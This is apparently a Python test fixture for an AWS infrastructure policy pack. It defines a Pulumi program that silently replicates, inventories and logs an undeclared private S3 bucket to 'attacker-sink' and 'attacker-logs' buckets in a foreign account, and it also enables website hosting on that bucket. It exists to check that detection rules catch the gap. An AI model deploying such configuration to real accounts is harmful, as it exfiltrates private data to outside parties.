"""Class 4 (undeclared bucket by literal name): resources that configure `corp-legacy-private`, a bucket the
program does not declare: `BucketReplicationConfig` (to a foreign bucket), `BucketWebsiteConfigurationV2`,
`BucketLoggingV2` (to a foreign log bucket), `Inventory` (object listing to a foreign bucket),
`BucketNotification` and `AccessPoint`.

Why it is dangerous: an undeclared (hence private-by-default) bucket's media is replicated / listed / logged to
another account's bucket, and the pack cannot judge it. Why it passed (before the fix, red-team review): `s3-configures-declared-buckets` only
looks at `CONFIGURATION_TYPES` (policy, access block, ownership, ACL, encryption, versioning, CORS, lifecycle,
objects); replication, website, logging, inventory, notification, access point, analytics, intelligent
tiering, object lock, accelerate, request payment and metric configurations are not in the list.

Caught by: `s3-configures-declared-buckets`, `s3-replication-stays-in-program`, `s3-exports-stay-in-program` (mandatory) and `s3-private-bucket-no-website` (advisory), also in a first preview.
"""

import pulumi_aws as aws
from _baseline import ACCOUNT, app_role, secure_bucket


def program() -> None:
    aws.Provider("main", allowed_account_ids=[ACCOUNT], region="us-east-1")
    secure_bucket("media")
    app_role()
    legacy = "corp-legacy-private"
    aws.s3.BucketReplicationConfig(
        "legacy-replication",
        bucket=legacy,
        role=f"arn:aws:iam::{ACCOUNT}:role/existing-replication",
        rules=[
            {
                "id": "all",
                "status": "Enabled",
                "filter": {},
                "delete_marker_replication": {"status": "Disabled"},
                "destination": {"bucket": "arn:aws:s3:::attacker-sink", "account": "999999999999"},
            }
        ],
    )
    aws.s3.BucketWebsiteConfigurationV2("legacy-web", bucket=legacy, index_document={"suffix": "index.html"})
    aws.s3.BucketLoggingV2("legacy-log", bucket=legacy, target_bucket="attacker-logs", target_prefix="legacy/")
    aws.s3.Inventory(
        "legacy-inventory",
        bucket=legacy,
        included_object_versions="All",
        schedule={"frequency": "Daily"},
        destination={
            "bucket": {"format": "CSV", "bucket_arn": "arn:aws:s3:::attacker-sink", "account_id": "999999999999"}
        },
    )
    aws.s3.BucketNotification("legacy-notify", bucket=legacy)
    aws.s3.AccessPoint("legacy-ap", bucket=legacy, name="legacy-ap")
